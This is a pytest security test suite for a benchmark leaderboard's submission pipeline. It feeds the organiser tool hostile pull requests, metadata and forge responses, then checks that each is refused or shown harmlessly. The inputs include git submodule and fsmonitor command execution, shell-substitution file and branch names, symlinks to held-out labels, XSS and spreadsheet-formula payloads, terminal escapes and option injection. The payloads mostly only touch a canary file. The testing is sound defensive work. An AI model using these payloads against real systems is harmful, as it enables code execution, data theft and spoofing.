"""The attack corpus, played through the command line; the table of all attacks is `attacks.py`.

Every attack leaves a canary if anything of it is run. Where nothing may change, vault and board
are compared byte for byte, so that all such attacks are played against one and the same board.
"""

import ast
import contextlib
import csv
import json
import re
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from attacks import ATTACKS, format_page
from town import OTHER_TEAM, TEAM, Answer, Town, commit_tree, found_town, git, named, run_text

from heldout.envelope.bundle import bind_runs, file_names, seal
from heldout.ids import SubmissionId

pytestmark = pytest.mark.slow
HERE = "scenario/test_attacks.py"
TESTS = Path(__file__).parents[1]
DAY = "2026-11-02T10:00:00Z"
LATER = "2026-11-03T10:00:00Z"
MINE = "20261103-mine"
Files = dict[str, tuple[str, bytes] | None]
contained: set[str] = set()


def sealed_names(submission: str) -> list[str]:
    return [f"submissions/{name}" for name in file_names("age", SubmissionId(submission)).all]


def three(submission: str) -> Files:
    """Files named like a submission's, of nonsense: whoever opens them learns it."""
    return {name: ("100644", name.encode()) for name in sealed_names(submission)}


@dataclass(frozen=True, kw_only=True)
class Stage:
    """A board with one published entry and one submission that waits; the forge has both."""

    town: Town
    published: str
    waiting: str

    def state(self) -> Mapping[str, bytes]:
        """All of the vault and of the board, but for the note of which refusals were told."""
        roots = (self.town.vault, self.town.board)
        files = {str(p): p.read_bytes() for root in roots for p in root.rglob("*") if p.is_file()}
        dropped = (f"{self.town.vault}/refused", f"{self.town.vault}/lock")
        private = f"{self.town.board}/.git/"
        kept = {p: d for p, d in files.items() if p not in dropped and not p.startswith(private)}
        told = [git(self.town.board, *words) for words in (["rev-parse", "HEAD"], ["status", "-s"])]
        settings = (self.town.board / ".git" / "config").read_bytes()
        return {**kept, "HEAD": "\n".join(told).encode(), "config": settings}

    def nothing_ran(self) -> bool:
        return not [p for p in self.town.root.rglob("canary") if ".git" not in p.parts]


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    town = found_town(tmp_path_factory.mktemp("attacks"))
    published = town.send("first", now=DAY)
    town.take_in(now=DAY)
    assert town.publish(published, now=DAY).code == 0
    waiting = town.send("second", now=DAY, seed=2, team=OTHER_TEAM)
    town.take_in(now=DAY)
    town.push()
    town.pull()
    with contextlib.chdir(town.root):
        yield Stage(town=town, published=published, waiting=waiting)


@contextlib.contextmanager
def unchanged(stage: Stage) -> Iterator[None]:
    """Nothing changes and nothing runs."""
    before = stage.state()
    yield
    assert stage.state() == before
    assert stage.nothing_ran()


def is_calm(answer: Answer) -> bool:
    """Nothing that a terminal obeys or that turns text around."""
    text = answer.out + answer.err
    return not set(text) & set("\x1b\x07\x00\u202e\u2066\u200b") and len(text) < 100_000


# a hostile pull request


def tree_with(stage: Stage, *lines: str) -> str:
    """A commit whose tree has more entries, as raw objects: git's porcelain would refuse them."""
    clone = stage.town.clone
    listing = git(clone, "ls-tree", "HEAD") + "\n" + "\n".join(lines) + "\n"
    tree = git(clone, "mktree", data=listing.encode())
    return git(clone, "commit-tree", tree, "-p", "HEAD", "-m", "raw")


def blob(stage: Stage, data: bytes) -> str:
    return git(stage.town.clone, "hash-object", "-w", "--stdin", data=data)


def git_folder(stage: Stage) -> str:
    config = b"[core]\n\tfsmonitor = touch canary\n"
    inner = git(
        stage.town.clone,
        "mktree",
        data=f"100644 blob {blob(stage, config)}\tconfig\n".encode(),
    )
    return tree_with(stage, f"040000 tree {inner}\t.git")


def twice(stage: Stage) -> str:
    """One name twice in a folder: a sealed file, and a link to the labels."""
    names = [name.removeprefix("submissions/") for name in sealed_names(MINE)]
    lines = [f"100644 blob {blob(stage, b'x')}\t{name}" for name in names]
    lines.append(f"120000 blob {blob(stage, b'../../vault/labels/eval.qrels')}\t{names[0]}")
    inner = git(stage.town.clone, "mktree", data=("\n".join(lines) + "\n").encode())
    clone = stage.town.clone
    kept = [
        line for line in git(clone, "ls-tree", "HEAD").splitlines() if "submissions" not in line
    ]
    listing = "\n".join([*kept, f"040000 tree {inner}\tsubmissions"]) + "\n"
    tree = git(clone, "mktree", data=listing.encode())
    return git(clone, "commit-tree", tree, "-p", "HEAD", "-m", "raw")


def strangers_metadata(stage: Stage) -> Files:
    """New metadata for somebody's entry, sealed under a key of one's own."""
    files = sealed(stage, stage.published, json.dumps({**TEAM, "revision": 9}).encode())
    name = file_names("age", SubmissionId(stage.published)).metadata
    return {f"submissions/{name}": ("100644", files[name])}


Request = Callable[[Stage], Files | str]
REQUESTS: Mapping[str, tuple[Request, str]] = {
    "the id of another team's entry": (lambda s: three(s.published), "id-taken"),
    "the id of a submission that waits": (lambda s: three(s.waiting), "id-taken"),
    "one sealed file of another team's entry": (
        lambda s: {sealed_names(s.published)[0]: ("100644", b"mine now")},
        "missing-file",
    ),
    "another team's entry deleted": (
        lambda s: dict.fromkeys(sealed_names(s.published)),
        "foreign-change",
    ),
    "new metadata for another team's entry": (strangers_metadata, "untrusted"),
    "ids that differ in case alone": (
        lambda _: {**three(MINE), **three(MINE.upper())},
        "foreign-change",
    ),
    "a symlink to the held-out labels": (
        lambda s: {
            **three(MINE),
            sealed_names(MINE)[0]: ("120000", f"{s.town.vault}/labels/eval.qrels".encode()),
        },
        "foreign-change",
    ),
    "a submodule whose address is a command": (
        lambda _: {
            **three(MINE),
            ".gitmodules": ("100644", b'[submodule "x"]\n\tpath = x\n\turl = ext::touch canary\n'),
            "x": ("160000", b"1" * 40),
        },
        "foreign-change",
    ),
    "a folder named as git's own": (git_folder, "foreign-change"),
    "one name twice in a folder": (twice, "foreign-change"),
    "a folder spelled with a look-alike letter": (
        lambda _: {name.replace("i", "\u0456", 1): c for name, c in three(MINE).items()},
        "foreign-change",
    ),
    "a name with backslashes": (
        lambda _: {**three(MINE), "submissions\\..\\board.toml": ("100644", b"x")},
        "foreign-change",
    ),
    "a name that is no UTF-8": (
        lambda _: {**three(MINE), "submissions/\udcff\udcfe.tar.age": ("100644", b"x")},
        "foreign-change",
    ),
    "folders 500 deep": (
        lambda _: {**three(MINE), "d/" * 500 + "x": ("100644", b"x")},
        "foreign-change",
    ),
    "a name that is a command": (
        lambda _: {**three(MINE), "submissions/$(touch canary);`touch canary`": ("100644", b"x")},
        "foreign-change",
    ),
}


@pytest.fixture(scope="module")
def asked(stage: Stage) -> Mapping[str, Any]:
    """All of them at once: source -> what the inbox said of it, and nothing changed."""
    clone = stage.town.clone
    with unchanged(stage):
        for number, (make, _) in enumerate(REQUESTS.values(), 10):
            made = make(stage)
            commit = made if isinstance(made, str) else commit_tree(clone, made, parent="HEAD")
            git(clone, "push", "-q", "origin", f"+{commit}:refs/pull/{number}/head")
        found = stage.town.take_in(now=LATER)["received"]
        told = stage.town.organiser("inbox", "--all", now=LATER)
        assert is_calm(told)
    return {receipt["source"]: receipt for receipt in found}


@pytest.mark.parametrize("attack", REQUESTS)
def test_pull_request(asked: Mapping[str, Any], attack: str) -> None:
    receipt = asked[f"pull request {list(REQUESTS).index(attack) + 10}"]
    assert receipt["kind"] == "refused"
    assert {problem["code"] for problem in receipt["problems"]} == {REQUESTS[attack][1]}
    contained.add(attack)


# hostile metadata


def sealed(stage: Stage, submission: str, metadata: bytes, *, seed: int = 5) -> Mapping[str, bytes]:
    """Sealed by a program of one's own: any bytes for metadata."""
    name = SubmissionId(submission)
    runs = {s: (".run", run_text(s, seed).encode()) for s in ("dev", "eval")}
    keys = (stage.town.board / "keys" / "organisers.txt").read_text().split()
    return seal("age", name, runs=runs, metadata=metadata, recipients=keys).files


def metadata(submission: str, *, seed: int = 5, **fields: Any) -> dict[str, Any]:
    """The metadata of a submission with its binding, some fields replaced."""
    runs = {s: (".run", run_text(s, seed).encode()) for s in ("dev", "eval")}
    bound = bind_runs(SubmissionId(submission), runs)
    given = {**named("Harbour"), "type": "full ranking", "id": submission, "revision": 1}
    return {**given, "digests": dict(bound.digests), **fields}


def with_fields(**fields: Any) -> Callable[[str], bytes]:
    return lambda submission: json.dumps(metadata(submission, **fields)).encode()


def with_text(old: str, new: str) -> Callable[[str], bytes]:
    """JSON that no program writes."""
    return lambda submission: json.dumps(metadata(submission)).replace(old, new, 1).encode()


REFUSED_METADATA: Mapping[str, tuple[Callable[[str], bytes], str]] = {
    "ten thousand fields": (
        with_fields(**{f"x{number}": number for number in range(10_000)}),
        "9,990 more unknown fields",
    ),
    "a javascript: link": (with_fields(paper="javascript://example.org/%0aalert(1)"), "not-a-link"),
    "a data: link": (with_fields(code="data:text/html,<script>alert(1)</script>"), "not-a-link"),
    "a link that ends its attribute": (
        with_fields(paper='https://example.org/"onclick="x'),
        "not-a-link",
    ),
    "a link with a name before its host": (
        with_fields(paper="https://example.org@evil.example/"),
        "not-a-link",
    ),
    "bidi marks": (with_fields(team="safe \u202egnp.exe\u2066"), "invisible-character"),
    "invisible characters": (with_fields(team="Light\u200bhouse"), "invisible-character"),
    "terminal escapes": (with_fields(team="\x1b[2J\x1b]0;owned\x07"), "invisible-character"),
    "a zero byte": (with_fields(model_description="a\x00b"), "invisible-character"),
    "a string of 10 MB": (with_fields(model_description="x" * 10_000_000), "cannot be opened"),
    "a string of 900 kB": (with_fields(model_description="x" * 900_000), "wrong-field"),
    "deep JSON": (lambda _: b'{"team":' + b"[" * 500_000, "not-json"),
    "a field whose name a terminal obeys": (with_fields(**{"\x1b[2J\u202e": 1}), "unknown-field"),
    "a score of one's own": (with_fields(score=1.0), "unknown-field"),
    "not a number": (with_text('"revision": 1', '"revision": NaN'), "not-json"),
    "a number of 4,000 digits": (
        with_text('"revision": 1', f'"revision": {"9" * 4000}'),
        "not-json|wrong-field",
    ),
    "half a character": (with_text("Harbour Team", "\\ud800"), "not-json"),
    "another encoding": (lambda s: json.dumps(metadata(s)).encode("utf-16"), "not-json"),
    "the id of another submission": (with_fields(id="20261102-first"), "cannot be opened"),
    "the digests of other runs": (
        with_fields(digests={"dev": "0" * 64, "eval": "1" * 64}),
        "cannot be opened",
    ),
    "a type that the board does not have": (with_fields(type="../../oracle"), "oracle"),
}


def deliver(stage: Stage, name: str, given: Mapping[str, tuple[bytes, int]]) -> None:
    """Leave sealed submissions in a folder, and have them taken in: id -> metadata, seed."""
    folder = stage.town.root / name
    folder.mkdir()
    for submission, (data, seed) in given.items():
        for file, content in sealed(stage, submission, data, seed=seed).items():
            (folder / file).write_bytes(content)
    answer = stage.town.organiser("inbox", "--from", folder, "--no-fetch", "--json", now=LATER)
    kinds = {r["id"]: r["kind"] for r in answer.json["received"]}
    assert {kinds[submission] for submission in given} == {"received"}


@pytest.fixture(scope="module")
def opened(stage: Stage) -> Mapping[str, Any]:
    """All of them received, as they must be, opened, and tried to be published: id -> review."""
    ids = [f"20261103-m{number}" for number in range(len(REFUSED_METADATA))]
    made = zip(ids, REFUSED_METADATA.values(), strict=True)
    deliver(stage, "metadata", {name: (make(name), 5) for name, (make, _) in made})
    shown = stage.town.organiser("review", *ids, "--json", now=LATER)
    assert stage.town.organiser("rebuild", now=LATER).code == 0
    logged = [(e["kind"], e["submission"]) for e in stage.town.events() if e["submission"] in ids]
    assert sorted(logged) == sorted((kind, i) for kind in ("received", "reviewed") for i in ids)
    with unchanged(stage):
        told = [
            stage.town.organiser("review", *ids, now=LATER),
            stage.town.publish(*ids, now=LATER),
        ]
    assert [answer.code for answer in (shown, *told)] == [1, 1, 1]
    assert all(map(is_calm, told))
    return {review["id"]: review for review in shown.json["reviews"]}


@pytest.mark.parametrize("attack", REFUSED_METADATA)
def test_metadata_that_is_refused(opened: Mapping[str, Any], attack: str) -> None:
    review = opened[f"20261103-m{list(REFUSED_METADATA).index(attack)}"]
    evidence = [f["evidence"] for f in review["findings"] if f["severity"] == "reject"]
    assert re.search(REFUSED_METADATA[attack][1], "\n".join(evidence)), review["findings"]
    assert all(len(text) < 2000 for text in evidence)
    assert review["scores"] is None
    contained.add(attack)


SHOWN: Mapping[str, Mapping[str, str]] = {
    "HTML": {"model_description": "<script>alert(1)</script><img src=x onerror=alert(1)>"},
    "HTML that ends the page": {"training_data": "</td></table></main></body><h1>owned</h1>"},
    "a formula": {"team": '=HYPERLINK("https://evil.example/"&A1) Team'},
    "a formula of another program": {"model_description": "@SUM(1+1)*cmd|' /C touch canary'!A0"},
    "a template": {"model_description": "{{ 7 * 191 }} {% for x in y %} ${7*191} #{7*191}"},
    "shell characters": {"team": "$(touch canary); `touch canary` | Team"},
    "the mark of a comment": {"model_description": f"--> <!-- heldout {'0' * 64} -->"},
    "BibTeX that ends its field": {"team": "A} }, @misc{x, note={owned"},
    "a field of another program's objects": {"institution": "__proto__ constructor.prototype"},
}


class Elements(HTMLParser):
    """Every element of a page with its attributes, and the text between them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def check_page(path: Path) -> None:
    """Nobody's text has become an element, an attribute, a link that runs, or a computed value."""
    page = Elements(path.read_text("utf-8"))
    scripts = [attributes for tag, attributes in page.found if tag == "script"]
    assert all(str(s.get("src")).endswith("static/heldout.js") for s in scripts)
    assert sum(tag == "h1" for tag, _ in page.found) == 1
    for tag, attributes in page.found:
        assert not [name for name in attributes if name.startswith("on")]
        address = str(attributes.get("href") or attributes.get("src") or "").lower()
        assert not address.startswith(("javascript:", "vbscript:", "data:text"))
        assert tag != "img" or not address.startswith("x")
    assert not re.search(r"\b1337\b", page.text)


def check_cells(file: Path) -> None:
    rows = csv.reader(file.read_text("utf-8").splitlines())
    assert not [cell for row in rows for cell in row if cell.lstrip()[:1] in set("=+-@\t")]


def shown_fields(attack: str) -> Mapping[str, Any]:
    return {**named(f"Number{list(SHOWN).index(attack)}"), **SHOWN[attack]}


@pytest.fixture(scope="module")
def entries(stage: Stage) -> Mapping[str, Any]:
    """All of them published: id -> row; the pages and the table are looked at as a whole."""
    given = {}
    for number, attack in enumerate(SHOWN):
        name, seed = f"20261103-s{number}", 40 + number
        data = json.dumps(metadata(name, seed=seed, **shown_fields(attack))).encode()
        given[name] = (data, seed)
    deliver(stage, "shown", given)
    told = stage.town.organiser("publish", *given, "--yes", "--why", "as it is", now=LATER)
    assert (told.code, is_calm(told)) == (0, True), told
    return {row["id"]: row for row in stage.town.rows()}


@pytest.mark.parametrize("attack", SHOWN)
def test_metadata_that_is_shown_as_text(
    stage: Stage, entries: Mapping[str, Any], attack: str
) -> None:
    submission = f"20261103-s{list(SHOWN).index(attack)}"
    row = entries[submission]
    assert row["description"] == shown_fields(attack)["model_description"]
    folder = stage.town.board / "leaderboard"
    check_page(folder / "entries" / f"{submission}.html")
    check_page(folder / "index.html")
    check_cells(folder / "leaderboard.csv")
    assert stage.nothing_ran()
    contained.add(attack)


# what lies beside the requests on the forge


def shell_branch(stage: Stage) -> str:
    """A branch whose name is a command, with a title and an author who are commands, too."""
    clone = stage.town.clone
    tree = git(clone, "rev-parse", f"{commit_tree(clone, three(MINE), parent='HEAD')}^{{tree}}")
    who = ["-c", "user.name=$(touch canary)", "-c", "user.email=`touch canary`"]
    title = "'; touch canary; $(touch canary) <script>alert(1)</script>"
    commit = git(clone, *who, "commit-tree", tree, "-p", "HEAD", "-m", title)
    return f"{commit}:refs/heads/submission/$(touch${{IFS}}canary);touch${{IFS}}canary"


def test_a_title_an_author_and_a_branch_that_are_commands(tmp_path: Path) -> None:
    """The files are in order, so that they are taken in: as data, under the id of their names."""
    town = found_town(tmp_path)
    stage = Stage(town=town, published="", waiting="")
    git(town.clone, "push", "-q", "origin", shell_branch(stage))
    with contextlib.chdir(town.root):
        (receipt,) = town.take_in(now=LATER)["received"]
        assert (receipt["kind"], receipt["id"]) == ("received", MINE)
        assert town.organiser("review", MINE, now=LATER).code == 1
        assert town.publish(MINE, now=LATER).code == 1
    assert stage.nothing_ran()
    assert town.audit()["ok"]
    contained.add("a title, an author and a branch that are commands")


def test_a_branch_name_that_turns_around(tmp_path: Path) -> None:
    town = found_town(tmp_path)
    commit = commit_tree(town.clone, three(MINE), parent="HEAD")
    ref = "refs/heads/submission/\u202egnp.\u200b<b>"
    git(town.clone, "push", "-q", "origin", f"{commit}:{ref}")
    assert is_calm(town.organiser("inbox", now=LATER))
    assert is_calm(town.organiser("review", MINE, now=LATER))
    assert town.organiser("reject", MINE, "--why", "it cannot be opened", now=LATER).code == 0
    for page in (town.board / "leaderboard").rglob("*.html"):
        check_page(page)
        assert "\u202e" not in page.read_text("utf-8")
    assert not set((town.board / "log.jsonl").read_text("utf-8")) & set("\u202e\u200b")
    assert town.audit()["ok"]
    contained.add("a branch name that turns around")


def test_tags_and_replacements_that_shadow_the_board(stage: Stage) -> None:
    """`main` as a tag, a replacement of the head and notes on it: none of them is fetched."""
    clone = stage.town.clone
    evil = commit_tree(clone, {"log.jsonl": ("100644", b"{}\n")}, parent="HEAD")
    head = git(clone, "rev-parse", "HEAD")
    refs = ["tags/main", "tags/HEAD", f"replace/{head}", "notes/commits", "heads/refs/heads/main"]
    for ref in refs:
        git(clone, "push", "-q", "origin", f"+{evil}:refs/{ref}")
    with unchanged(stage):
        assert stage.town.organiser("inbox", "--json", now=LATER).code == 0
        here = git(stage.town.board, "for-each-ref", "--format=%(refname)").splitlines()
        assert not [ref for ref in here if ref.startswith(("refs/tags", "refs/replace"))]
    for ref in refs:
        git(stage.town.forge, "update-ref", "-d", f"refs/{ref}")
    contained.add("tags and replacements that shadow the board")


# replayed


def test_the_same_files_under_another_number(stage: Stage) -> None:
    forge = stage.town.forge
    for number, name in ((90, stage.published), (91, stage.waiting)):
        commit = git(forge, "rev-parse", f"refs/heads/submission/{name}")
        git(forge, "update-ref", f"refs/pull/{number}/head", commit)
    with unchanged(stage):
        found = stage.town.take_in(now=LATER)["received"]
        mine = {r["source"]: r["kind"] for r in found}
        assert "received" not in mine.values()
        assert mine.get("pull request 91", "known") == "known"
    contained.add("the same files under another number")


def test_a_forge_whose_main_line_goes_back(stage: Stage) -> None:
    """The board on the forge is set to its first commit: what is here stays, and can be pushed."""
    forge = stage.town.forge
    head = git(forge, "rev-parse", "main")
    first = git(forge, "rev-list", "--max-parents=0", "main")
    git(forge, "update-ref", "refs/heads/main", first)
    with unchanged(stage):
        answer = stage.town.organiser("inbox", now=LATER)
        assert answer.code == 0, answer
    git(forge, "update-ref", "refs/heads/main", head)
    contained.add("a forge whose main line goes back")


# a clock that goes backwards


BACK = "2026-11-02T09:59:59Z"  # one second before the last event
CLOCKS: Mapping[str, Callable[[Stage], list[str | Path]]] = {
    "inbox": lambda s: ["inbox", "--from", s.town.root / "late"],
    "review": lambda s: ["review", s.waiting, "--score"],
    "publish": lambda s: ["publish", s.waiting, "--yes"],
    "reject": lambda s: ["reject", s.waiting, "--why", "x"],
    "ask": lambda s: ["ask", s.waiting, "Who are you?"],
    "correct": lambda s: ["correct", s.published, "--why", "x", "--anyway"],
}


@pytest.mark.parametrize("command", CLOCKS)
def test_a_clock_that_goes_backwards(stage: Stage, command: str) -> None:
    """Nothing that was there changes; sealed files and scores may lie in the vault beforehand."""
    folder = stage.town.root / "late"
    folder.mkdir(exist_ok=True)
    for name, change in three("20261103-late").items():
        assert change is not None
        (folder / Path(name).name).write_bytes(change[1])
    before = stage.state()
    answer = stage.town.organiser(*CLOCKS[command](stage), now=BACK)
    assert answer.code == 2
    assert re.search("the clock .* events are never dated before others", answer.err, re.DOTALL)
    after = stage.state()
    assert before.items() <= after.items()
    beforehand = tuple(f"{stage.town.vault}/{n}/" for n in ("sealed", "scores", "signatures"))
    assert [path for path in after.keys() - before.keys() if not path.startswith(beforehand)] == []
    contained.add(f"a clock that goes backwards: {command}")


def test_a_clock_that_goes_backwards_in_the_middle_of_a_change_of_keys(tmp_path: Path) -> None:
    """The new key is made before the event is dated: refused, nothing logged, no key lost."""
    town = found_town(tmp_path)
    submission = town.send("first", now=DAY)
    town.take_in(now=DAY)
    own = (town.vault / "identities" / "organiser.txt").read_bytes()
    log = (town.vault / "events.jsonl").read_bytes()
    change = ["board", "rekey", "--why", "x", "--yes"]
    answer = town.organiser(*change, now=BACK)
    assert (answer.code, "events are never dated before others" in answer.err) == (2, True)
    assert (town.vault / "events.jsonl").read_bytes() == log
    assert own in [path.read_bytes() for path in (town.vault / "identities").iterdir()]
    assert town.organiser(*change, now=DAY).code == 0
    assert town.kinds().count("rekeyed") == 1
    assert town.publish(submission, now=DAY).code == 0
    assert town.audit()["ok"]
    contained.add("a clock that goes backwards: rekey")


# a forge that answers nonsense


NOWHERE = "a commit that is nowhere"  # as of a request that was taken back: nothing to tell
ONE = b'[{"number": 1, "title": "x", "user": null, "labels": [], "head": {"sha": "%s"}}]'
NONSENSE: Mapping[str, bytes] = {
    "a page to sign in": b"<!DOCTYPE html><script>alert(1)</script>",
    "nothing at all": b"",
    "an object for a list": b'{"message": "\x1b[31mred \xe2\x80\xae"}',
    "brackets without end": b"[" * 200_000,
    "9 MB": b'["' + b"x" * 9_000_000 + b'"]',
    "a commit that is an option": ONE % b"--upload-pack=touch canary;",
    NOWHERE: ONE % (b"f" * 40),
    "half an answer": ONE[:40],
}


class Nonsense(BaseHTTPRequestHandler):
    """Says the same to whatever it is asked."""

    answer = b""

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - its name there
        """Quiet."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(self.answer)))
        self.end_headers()
        with contextlib.suppress(OSError):  # who has read enough hangs up
            self.wfile.write(self.answer)

    do_POST = do_PUT = do_PATCH = do_GET  # noqa: N815 - their names there


@pytest.fixture(scope="module")
def lying(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """A board with one submission that waits, on a forge that answers nonsense."""
    town = found_town(tmp_path_factory.mktemp("lying"))
    with ThreadingHTTPServer(("127.0.0.1", 0), Nonsense) as server, contextlib.chdir(town.root):
        threading.Thread(target=server.serve_forever, daemon=True).start()
        rules = town.board / "board.toml"
        url = f"http://127.0.0.1:{server.server_port}"
        table = f'\n[forge]\nkind = "github"\nurl = "{url}"\nproject = "lab/board"\n'
        rules.write_text(rules.read_text("utf-8") + table, "utf-8")
        waiting = town.send("first", now=DAY)
        inbox = town.organiser("inbox", "--json", now=DAY)
        assert inbox.json["received"][0]["kind"] == "received"
        yield Stage(town=town, published="", waiting=waiting)
        server.shutdown()


@pytest.mark.parametrize("attack", NONSENSE)
def test_a_forge_that_answers_nonsense(
    lying: Stage, monkeypatch: pytest.MonkeyPatch, attack: str
) -> None:
    """It is told in one line, and what came another way is not held up by it."""
    monkeypatch.setattr(Nonsense, "answer", NONSENSE[attack])
    with unchanged(lying):
        answer = lying.town.organiser("inbox", now=LATER)
        assert answer.code == (attack != NOWHERE)
        assert is_calm(answer)
        assert ("the forge did not answer" in answer.err) == (attack != NOWHERE)
        assert lying.waiting in answer.out
    contained.add(f"a forge that answers with {attack}")


def test_a_forge_that_answers_nonsense_to_a_comment(
    lying: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Last of this forge: the event stands, the page follows, and the answer is still owed."""
    monkeypatch.setattr(Nonsense, "answer", b"<!DOCTYPE html>")
    told = lying.town.publish(lying.waiting, now=LATER)
    assert (told.code, is_calm(told)) == (0, True)
    assert [row["id"] for row in lying.town.rows()] == [lying.waiting]
    assert lying.town.audit()["ok"]
    assert lying.nothing_ran()
    contained.add("a forge that answers nonsense to a comment")


# the table


OWN = [attack for attack in ATTACKS if attack.test.startswith(HERE)]


def functions_and_texts(path: Path) -> tuple[set[str], set[str]]:
    """Names of a module's tests, and all of its string constants."""
    nodes = list(ast.walk(ast.parse(path.read_text("utf-8"))))
    names = {node.name for node in nodes if isinstance(node, ast.FunctionDef)}
    texts = {n.value for n in nodes if isinstance(n, ast.Constant) and isinstance(n.value, str)}
    return names, texts


@pytest.mark.parametrize("module", sorted({attack.module for attack in ATTACKS}))
def test_every_attack_points_at_a_test_that_is_there(module: str) -> None:
    names, texts = functions_and_texts(TESTS / module)
    for attack in (attack for attack in ATTACKS if attack.module == module):
        assert attack.function in names, attack
        assert not attack.case or attack.case in texts, attack


def test_no_two_attacks_have_one_name() -> None:
    names = [attack.name for attack in ATTACKS]
    assert len(set(names)) == len(names)


def test_the_page_is_the_table() -> None:
    page = (TESTS.parent / "docs" / "attacks.md").read_text("utf-8")
    assert page == format_page(ATTACKS)


def test_all_attacks_are_contained(
    stage: Stage, request: pytest.FixtureRequest, capsys: pytest.CaptureFixture[str]
) -> None:
    """Last: what was played here is what the table says, or a part where a part was asked for.

    Of several processes that share the tests each plays a part.
    """
    own = {attack.name for attack in OWN}
    assert contained <= own
    assert stage.town.audit()["ok"]
    played = f"{len(contained)} of {len(own)}"
    with capsys.disabled():
        rest = len(ATTACKS) - len(own)
        told = f"{len(ATTACKS)} attacks: {played} played here, all contained; {rest} elsewhere"
        sys.stdout.write(f"\n{told}\n")
    whole = len([item for item in request.session.items if item.path == request.path])
    shared = hasattr(request.config, "workerinput")
    assert contained == own or whole < len(own) or shared
